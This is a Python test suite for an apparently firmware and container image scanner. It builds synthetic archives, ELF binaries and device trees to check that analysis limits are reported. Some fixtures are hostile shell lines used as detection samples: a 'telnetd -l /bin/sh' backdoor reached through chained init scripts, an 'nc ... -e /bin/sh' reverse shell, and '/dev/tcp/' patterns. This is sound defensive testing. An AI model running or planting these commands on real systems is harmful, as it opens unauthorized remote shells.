#!/usr/bin/env python3
"""
Limits from both sides (docs/limits.md): just below one, what it bounds is there and no row of `incomplete` speaks of it;
just above it a row says which file, what and how much, and nothing that would rest on it is shown.
"""
import base64
import gzip
import hashlib
import io
import json
import pathlib
import struct
import sys
import tarfile
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from recipes import device_tree  # noqa: E402
from tap import SCRATCH, assay, case, equal, main, write  # noqa: E402

# A root file system of which something is shown, as long as all of it was read.
SOUND = {
    "etc/passwd": b"root:x:0:0:root:/root:/bin/sh\n",
    "etc/shadow": b"root:!:19000:0:99999:7:::\n",
    "etc/inittab": b"::sysinit:/etc/init.d/rcS\n",
    "etc/init.d/rcS": b"#!/bin/sh\nmount -t proc proc /proc\n",
    "etc/sysctl.conf": b"kernel.kptr_restrict = 2\n",
    "bin/sh": b"#!/bin/ash\n",
}


def archive(files, format=tarfile.USTAR_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=format) as tar:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size, member.mode = len(content), 0o755 if content.startswith((b"#!", b"\x7fELF")) else 0o644
            tar.addfile(member, io.BytesIO(content))
    return out.getvalue()


def root(path, make):
    """A recipe of an image: the sound root file system and one more file, that a number makes."""
    return lambda number: archive({**SOUND, path: make(number)})


def lines(each, head=b"", tail=b""):
    return lambda count: head + b"".join(each % number if b"%d" in each else each for number in range(count)) + tail


def elf(needed=1, imports=1, compilers=1, soname=b"libx.so"):
    """A program of 64 bits with dynamic entries, imported functions and a section of compilers."""
    strings = b"\0" + soname + b"\0" + b"lib.so\0" + b"system\0"
    names = {"soname": 1, "lib": 2 + len(soname), "system": 2 + len(soname) + 7}
    symbols = bytes(24) + struct.pack("<IBBHQQ", names["system"], 0x12, 0, 0, 0, 0) * imports
    comment = b"".join(b"GCC: (maker) 4.%d\0" % number for number in range(compilers))
    base, start = 0x10000, 64 + 2 * 56
    at = {"strings": start, "symbols": start + len(strings)}
    hashes = struct.pack("<II", 1, 1 + imports) + bytes(4 * (2 + imports))  # its second word counts the symbols
    at["hash"] = at["symbols"] + len(symbols)
    at["dynamic"] = at["hash"] + len(hashes)
    entries = [(14, names["soname"]), (5, base + at["strings"]), (10, len(strings)), (6, base + at["symbols"]), (11, 24),
               (4, base + at["hash"]), *[(1, names["lib"])] * needed, (0, 0)]
    dynamic = b"".join(struct.pack("<QQ", *entry) for entry in entries)
    body = strings + symbols + hashes + dynamic
    at["comment"] = start + len(body)
    titles = b"\0.dynamic\0.comment\0.shstrtab\0"
    at["titles"] = at["comment"] + len(comment)
    sections = at["titles"] + len(titles)
    loaded = at["comment"]
    head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, sections, 0, 64, 56, 2, 64, 4, 3)
    segments = (struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, loaded, loaded, 4096) +
                struct.pack("<IIQQQQQQ", 2, 4, at["dynamic"], base + at["dynamic"], 0, len(dynamic), len(dynamic), 8))

    def section(title, kind, offset, size, address=0):
        return struct.pack("<IIQQQQIIQQ", titles.index(b"\0" + title) + 1 if title else 0, kind, 0, address, offset, size, 0, 0, 1, 0)
    return (head + segments + body + comment + titles + section(b"", 0, 0, 0) +
            section(b".dynamic", 6, at["dynamic"], len(dynamic), base + at["dynamic"]) +
            section(b".comment", 1, at["comment"], len(comment)) + section(b".shstrtab", 3, at["titles"], len(titles)))


def environment(variables, size):
    data = b"\0".join(variables) + b"\0\0"
    data += b"\0" * (size - 4 - len(data))
    return struct.pack("<I", zlib.crc32(data)) + data


def named(count):
    return [b"bootcmd=run a", b"bootdelay=1", b"baudrate=9600"] + [b"v%d=1" % number for number in range(count - 3)]


def docker(images, layers=1, wrap=0, padding=0):
    """What "docker save" writes."""
    layer = archive(SOUND)
    for _ in range(wrap):
        layer = gzip.compress(layer, mtime=0)
    list_of = [{"Config": "c.json", "RepoTags": [f"x:{number}"], "Layers": ["a/layer.tar"] * layers} for number in range(images)]
    manifest = json.dumps(list_of).encode()
    return archive({"manifest.json": manifest + b" " * (padding - len(manifest)), "a/layer.tar": layer, "c.json": b"{}"})


def layered(count):
    """Images of layers that no other one has."""
    images = [{"RepoTags": [f"x:{number}"], "Layers": [f"{layer}/layer.tar" for layer in range(number, count, 2)]} for number in (0, 1)]
    return archive({"manifest.json": json.dumps(images).encode(), "0/layer.tar": archive(SOUND),
                    **{f"{number}/layer.tar": archive({f"etc/x{number}": b"text"}) for number in range(1, count)}})


def oci(count):
    """An image layout of the Open Container Initiative."""
    blobs = {}

    def blob(content):
        name = hashlib.sha256(content).hexdigest()
        blobs["blobs/sha256/" + name] = content
        return {"digest": "sha256:" + name, "size": len(content)}
    layer = {**blob(archive(SOUND)), "mediaType": "application/vnd.oci.image.layer.v1.tar"}
    manifests = [blob(json.dumps({"layers": [layer], "number": number}).encode()) for number in range(count)]
    return archive({"index.json": json.dumps({"manifests": manifests}).encode(), "oci-layout": b"{}", **blobs})


def nested(depth):
    content = b"the innermost text\n" * 20
    for _ in range(depth):
        content = gzip.compress(content, mtime=0)
    return content


def roots(count):
    files = {f"r{number}/{name}": content for number in range(count) for name, content in SOUND.items()}
    return archive({**files, **{f"r{number}/{folder}/x": b"" for number in range(count) for folder in ("usr", "lib")}})


def pax(path=None, comment=None):
    def record(key, value):
        size = len(key) + len(value) + 3
        while len(str(size)) + len(key) + len(value) + 3 != size:
            size = len(str(size)) + len(key) + len(value) + 3
        return b"%d %s=%s\n" % (size, key, value)
    body = record(b"path", path) if path else record(b"comment", comment)
    head = tarfile.TarInfo("x")
    head.type, head.size = tarfile.XHDTYPE, len(body)
    member = tarfile.TarInfo("short")
    member.size = 4
    sound = archive(SOUND)
    end = len(sound) - next(n for n in range(0, len(sound), 512) if sound[len(sound) - n - 512:len(sound) - n].strip(b"\0"))
    out = sound[:end] + head.tobuf(tarfile.USTAR_FORMAT) + body + bytes(-len(body) % 512)
    return out + member.tobuf(tarfile.USTAR_FORMAT) + b"text" + bytes(508 + 1024)


def chain(count):
    files = {f"usr/lib/step{number}.sh": b"#!/bin/sh\n/usr/lib/step%d.sh\n" % (number + 1) for number in range(1, count)}
    return archive({**SOUND, **files, "etc/init.d/rcS": b"#!/bin/sh\n/usr/lib/step1.sh\n",
                    f"usr/lib/step{count}.sh": b"#!/bin/sh\ntelnetd -l /bin/sh\n"})


def functions(count):
    """Functions that call each other, the last one first: each walk over the script finds one more."""
    names = [b"f%d() { f%d; }\n" % (number, number + 1) for number in range(count)]
    return b"#!/bin/sh\n" + b"f%d() { telnetd -l /bin/sh; }\n" % count + b"".join(reversed(names)) + b"f0\n"


def ssh_line(number):
    key = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + struct.pack(">Q", number + 1) * 4
    return b"ssh-ed25519 " + base64.b64encode(key) + b" x\n"


def kernel_configuration(size):
    text = b"#\n# Automatically generated make config: don't edit\n# Linux kernel version: 2.6.36\n#\nCONFIG_MMU=y\n"
    return b"\x7fELF" + bytes(60) + b"IKCFG_ST" + gzip.compress(text + b"\n" * (size - len(text)), mtime=0) + b"IKCFG_ED"


def packages(count):
    return b"".join(b"Package: p\nVersion: 1.%d\nStatus: install ok installed\n\n" % (number % 5) for number in range(count))


def block(label, count):
    return (b"-----BEGIN %s-----\n" % label + base64.b64encode(bytes(range(30))) + b"\n-----END %s-----\n" % label) * count


def loop(pattern, count):
    """A loop over files, the last of whose lines runs them."""
    return b"#!/bin/sh\nfor i in " + pattern + b"; do\n" + b"\techo $i\n" * (count - 1) + b"\t$i start\ndone\n"


RUN_ALL = "SELECT count(*) FROM setting WHERE name LIKE '% all of'"
CONF, SCRIPT, SBIN = "etc/app.conf", "etc/init.d/app", "usr/sbin/app"
EVERY = "SELECT count(*) FROM %s f JOIN file p ON p.id = f.file WHERE p.path LIKE '%%%s'"
# name: (recipe, most that is read, code, what of it, how much is left out above, query, its answers on both sides)
LIMITS = {
    "hits of a pattern": (root(SCRIPT, lines(b": /dev/tcp/\n", b"#!/bin/sh\n")), 8192, "remote shells.hits", "facts", 1, None, None),
    "bytes of a fact": (root("etc/sysctl.conf", lambda size: b"kernel.a=" + b"x" * size + b"\n"), 65536, "facts.setting", "facts", 1,
                        "SELECT length(value) FROM setting WHERE name = 'kernel.a'", ("65536", "65536")),
    "facts of a file": (root("etc/passwd", lines(b"u%d:x:9:9::/:/bin/sh\n")), 200000, "facts.account", "facts", 1,
                        EVERY % ("account", "/etc/passwd"), ("200000", "200000")),
    "images of a container": (lambda count: docker(count), 64, "container.many", "entries", None, None, None),
    "layers of a container": (lambda count: docker(1, layers=count), 512, "container.many", "entries", None, None, None),
    "layers of all containers": (layered, 512, "container.many", "entries", 1, None, None),
    "containers of an index": (oci, 64, "container.many", "entries", 1,
                              "SELECT count(DISTINCT volume) FROM file f JOIN account a ON a.file = f.id", ("64", "64")),
    "compressions of a layer": (lambda count: docker(1, wrap=count), 4, "container.layer", "content", None,
                                "SELECT count(*) > 0 FROM account", ("1", "0")),
    "bytes of a manifest": (lambda size: docker(1, padding=size), 16 << 20, "container.missing-manifest", "entries", 1, None, None),
    "containers in containers": (nested, 12, "budget.depth", "entries", 1, None, None),
    "variables of a script": (root(SCRIPT, lines(b"v%d=1\n", b"#!/bin/sh\n", b"echo $v0\n")), 512, "shell.too-much", "search", None, None,
                              None),
    "functions of a script": (root(SCRIPT, lines(b"f%d() { :; }\n", b"#!/bin/sh\n")), 512, "facts.service", "facts", 1, None, None),
    "calls of functions": (root("etc/init.d/rcS", functions), 30, "services.calls", "search", None, None, None),
    "calls of scripts": (chain, 63, "services.chain", "sight", None, None, None),
    "a line that hands out a shell": (root(SCRIPT, lambda size: b"#!/bin/sh\nnc" + (b" 10.0.0.1" * 2000)[:size - 2] + b" -e /bin/sh\n"), 16374,
                                      "remote-shells.line", "search", None, None, None),
    "lines of a loop": (root("etc/init.d/rcS", lambda count: loop(b"/etc/rc.d/S*", count)), 256, "services.folders", "search", None,
                        RUN_ALL, ("1", "0")),
    "bytes of a pattern": (root("etc/init.d/rcS", lambda size: loop(b"/etc/" + b"x" * (size - 6) + b"*", 1)), 128, "services.folders",
                           "search", None, RUN_ALL, ("1", "0")),
    "stars of a pattern": (root("etc/init.d/rcS", lambda count: loop(b"/etc/x" + b"*y" * count, 1)), 3, "services.folders", "search", None,
                           RUN_ALL, ("1", "0")),
    "settings": (root("etc/sysctl.conf", lines(b"net.x%d=1\n")), 10000, "facts.setting", "facts", 1,
                 EVERY % ("setting", "sysctl.conf"), ("10000", "10000")),
    "secrets": (root(CONF, lines(b"password%d=Wq8zk2Lp\n")), 200, "facts.secret", "facts", 1, EVERY % ("secret", CONF), ("200", "200")),
    "PEM keys": (root("etc/keys.pem", lambda count: block(b"PGP PUBLIC KEY BLOCK", count)), 4096, "facts.key", "facts", 1,
                 EVERY % ("key", "keys.pem"), ("4096", "4096")),
    "PEM certificates": (root("etc/all.pem", lambda count: block(b"CERTIFICATE", count)), 4096, "facts.certificate", "facts", 1, None,
                         None),
    "SSH keys": (root("root/.ssh/authorized_keys", lambda count: b"".join(map(ssh_line, range(count)))), 10000, "facts.key", "facts", 1,
                 EVERY % ("key", "authorized_keys"), ("10000", "10000")),
    "libraries": (root(SBIN, lambda count: elf(needed=count)), 1024, "facts.elf_library", "facts", 1,
                  EVERY % ("elf_library", SBIN), ("1024", "1024")),
    "imports": (root(SBIN, lambda count: elf(imports=count)), 4096, "facts.elf_import", "facts", 1,
                EVERY % ("elf_import", SBIN), ("4096", "4096")),
    "compilers": (root(SBIN, lambda count: elf(compilers=count)), 64, "facts.elf", "facts", 1,
                  "SELECT length(compiler) - length(replace(compiler, ';', '')) FROM elf", ("63", "63")),
    "bytes of a name": (root(SBIN, lambda size: elf(soname=b"x" * size)), 4095, "facts.elf", "facts", 1,
                        "SELECT length(soname) FROM elf", ("4095", "4096")),
    "parameters of a kernel": (lambda count: device_tree({"model": b"x\0", "compatible": b"a,b\0", "chosen": {
        "bootargs": b" ".join(b"p%d" % number for number in range(count)) + b"\0"}}), 1024, "facts.kernel_parameter", "facts", 1,
                               "SELECT count(*) FROM kernel_parameter", ("1024", "1024")),
    "strings of a list": (lambda count: device_tree({"model": b"x\0", "compatible": b"".join(b"a,%d\0" % n for n in range(count))}), 256,
                          "facts.device_tree", "facts", 1, None, None),
    "bytes of a list": (lambda size: device_tree({"model": b"x\0", "compatible": b"a," + b"x" * (size - 3) + b"\0"}), 16384,
                        "facts.device_tree", "facts", 1, None, None),
    "configuration of a kernel": (root(SBIN, kernel_configuration), 4 << 20, "kernel.config-damaged", "content", None, None, None),
    "variables of an environment": (lambda count: environment(named(count), 0x10000), 1024, "facts.boot_variable", "facts", 1,
                                    "SELECT count(*) FROM boot_variable", ("1024", "1024")),
    "packages": (root("usr/lib/opkg/status", packages), 100000, "facts.package", "facts", 1,
                 "SELECT count(*) FROM package", ("100000", "100000")),
    "images of a FIT": (lambda count: device_tree({"description": b"x\0", "images": {
        f"p{number}": {"data": b"text\n" * 9, "type": b"firmware\0"} for number in range(count)}, "configurations": {}}), 256,
                        "volume.refused", "entries", 1, None, None),
    "bytes of a path": (lambda size: pax(path=b"d/" * 2 + b"x" * (size - 4)), 4096, "volume.refused", "entries", 1,
                        "SELECT count(*) FROM file WHERE path LIKE '/d/d/%'", ("1", "0")),
    "bytes of an extended header": (lambda size: pax(comment=b"x" * (size - len("1048576 comment=\n"))), 1 << 20, "volume.refused",
                                    "entries", 1, None, None),
    "roots of a collection": (roots, 64, "collection.roots", "sight", 1, None, None),
}


def check(name):
    make, most, code, what, amount, query, answers = LIMITS[name]
    for above in (False, True):
        image = write("limit.bin", make(most + above))
        run = assay(image, "--save", SCRATCH / "limit.assay", "--no-vulnerabilities", "--json", "-")
        equal(run.status, 0, run.err)
        result = json.loads(run.out)
        rows = [one for one in result["incomplete"] if one["code"] == code]
        equal((above, sorted({one["missing"] for one in rows})), (above, [what] if above else []),
              [(one["code"], one["path"], one["amount"]) for one in result["incomplete"]])
        if above:
            equal(rows[0]["cause"] in ("limit", "damaged", "unsupported"), True, rows)
            equal(max((one["amount"] or 0 for one in rows), default=0) if amount else amount, amount, rows)
            equal([one["id"] for one in result["requirements"] if one["verdict"] == "shown"], [], "shown")
        if query:
            asked = assay("query", SCRATCH / "limit.assay", query, "--format", "tsv")
            equal(asked.status, 0, asked.err)
            equal((above, asked.out.split("\n")[1]), (above, answers[above]))


for _name in LIMITS:
    def test(name=_name):
        check(name)
    test.__name__ = _name.replace(" ", "_")
    case(test)


@case
def the_sound_root_shows_something():
    """Else nothing could be hidden by a limit."""
    result = json.loads(assay(write("sound.tar", archive(SOUND)), "--no-vulnerabilities", "--json", "-").out)
    equal(([one["verdict"] for one in result["requirements"]].count("shown") > 0, result["incomplete"]), (True, []))


main()
